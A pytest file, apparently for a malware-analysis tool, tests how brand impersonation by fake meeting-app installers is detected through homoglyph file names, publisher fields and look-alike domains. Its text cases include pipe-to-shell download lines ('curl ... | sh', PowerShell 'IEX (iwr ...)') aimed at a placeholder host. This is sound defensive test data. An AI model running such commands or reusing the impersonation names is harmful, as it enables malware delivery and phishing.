"""Brand claims and look-alike hosts: data-driven cases, each saying why it exists."""

from __future__ import annotations

import pytest

from agent.analysis.claims import VendorTable, skeleton
from agent.analysis.lookalike import check_host, hosts_in_text

NAME_CASES = [
    # (file name, brands claimed) — why
    ("ZoomInstallerFull.exe", {"zoom"}),  # the real installer's name, copied by fakes (camelCase split)
    ("Z00mInstaIler.exe", {"zoom"}),  # leet digits and capital I for l
    ("Zооm.exe", {"zoom"}),  # Cyrillic о (U+043E) look-alikes
    ("Zo\u200bom_update.pkg", {"zoom"}),  # zero-width space inside the brand
    ("MSTeamsSetup.exe", {"teams"}),  # the genuine Teams web installer's name: the name proves nothing
    ("zoom_sdk_support.scpt", {"zoom"}),  # GhostCall AppleScript lure
    ("GoogIe Meet Setup.exe", {"meet"}),  # homoglyph in "Google", phrase "google meet"
    ("googlemeetdriver.pkg", {"meet"}),  # glued alias
    ("FCCCall.msi", {"freeconference"}),  # clone brand from THREATS.md
    ("MiroTalk.msi", {"mirotalk"}),
    ("SetupZoom64.exe", {"zoom"}),  # brand glued between claim-suffix words
    ("Webex_Fix.command", {"webex"}),
    ("skype.dmg", {"skype"}),
    ("zoomit64.exe", set()),  # Sysinternals ZoomIt: "zoomit" is not "zoom"+suffix
    ("zoominfo_export.csv", set()),  # ZoomInfo is another company
    ("setup.exe", set()),  # no brand at all
    ("report_final.docx", set()),
]


@pytest.mark.parametrize(("name", "brands"), NAME_CASES)
def test_claims_from_name(vendors: VendorTable, name: str, brands: set[str]) -> None:
    assert {c.brand for c in vendors.claims_from_name(name)} == brands


FIELD_CASES = [
    ("versioninfo:CompanyName", "Zoom Video Communications, Inc.", {"zoom"}),  # brand word in publisher
    ("versioninfo:CompanyName", "Cisco WebEx LLC", {"webex"}),
    ("versioninfo:CompanyName", "Slack Technologies, LLC", {"slack"}),  # publisher implies the brand
    ("versioninfo:CompanyName", "Microsoft Corporation", set()),  # ships Teams AND Skype: claims neither
    ("versioninfo:ProductName", "Microsoft Teams", {"teams"}),
    ("msi:Manufacturer", "Zoom Communications, Inc.", {"zoom"}),
    ("bundle_id", "us.zoom.xos", {"zoom"}),  # genuine Zoom bundle id prefix
    ("bundle_id", "com.tinyspeck.slackmacgap", {"slack"}),  # Slack's bundle id has no brand word
    ("macho:team_id", "BJ4HAAB9B3", {"zoom"}),  # a (possibly self-asserted) Zoom Team ID is a claim
    ("macho:team_id", "ABCDE12345", set()),
    ("lnk:icon", r"C:\Program Files\Zoom\bin\Zoom.exe,0", {"zoom"}),
    ("versioninfo:FileDescription", "Spreadsheet viewer", set()),
]


@pytest.mark.parametrize(("source", "value", "brands"), FIELD_CASES)
def test_claims_from_fields(vendors: VendorTable, source: str, value: str, brands: set[str]) -> None:
    assert {c.brand for c in vendors.claims_from_field(source, value)} == brands


TEXT_CASES = [
    # A brand next to update/fix words claims the brand; a mere mention does not.
    ('do shell script "curl https://x.invalid | sh" -- Zoom SDK update', {"zoom"}),
    ("# Microsoft Teams audio fix\nIEX (iwr https://x.invalid)", {"teams"}),
    ("# build the teams roster\ncurl https://x.invalid | sh", set()),  # "teams" the English word
    ("echo 'see you on zoom'\n", set()),  # mention without update/fix context
]


@pytest.mark.parametrize(("text", "brands"), TEXT_CASES)
def test_claims_from_text(vendors: VendorTable, text: str, brands: set[str]) -> None:
    assert {c.brand for c in vendors.claims_from_text(text)} == brands


def test_skeleton_folds_lookalikes() -> None:
    assert skeleton("Z00M") == skeleton("zoom")
    assert skeleton("GoogIe") == skeleton("google")
    assert skeleton("Slаck") == skeleton("slack")  # Cyrillic а
    assert skeleton("zoom") != skeleton("room")


HOST_CASES = [
    # (host, brand or None) — the THREATS.md look-alikes, then the vendors' real hosts and bystanders
    ("us05web-zoom.biz", "zoom"),
    ("web071zoom.us", "zoom"),
    ("support-zoom.us", "zoom"),
    ("zoom.callservice.us", "zoom"),
    ("teams-install.top", "teams"),
    ("meet.google.us-join.com", "meet"),
    ("googiedrivers.com", "meet"),  # "googIe" lower-cased
    ("us05web.zoom.us", None),  # Zoom's own data-centre host
    ("zoom.us", None),
    ("teams.microsoft.com", None),
    ("hooks.slack.com", None),
    ("googlesyndication.com", None),  # spelled google: not a homoglyph
    ("www.meetup.com", None),
    ("zoominfo.com", None),
    ("github.com", None),
    ("10.0.0.1", None),
]


@pytest.mark.parametrize(("host", "brand"), HOST_CASES)
def test_lookalike_hosts(vendors: VendorTable, host: str, brand: str | None) -> None:
    hit = check_host(host, vendors)
    assert (hit.brand if hit else None) == brand


def test_hosts_in_text_dedupes_and_bounds() -> None:
    text = "curl https://a.example/x; curl https://a.example/y; " + " ".join(
        f"http://h{i}.example/" for i in range(500))
    hosts = hosts_in_text(text)
    assert hosts[0] == "a.example"
    assert len(hosts) == len(set(hosts))
    assert len(hosts) <= 200
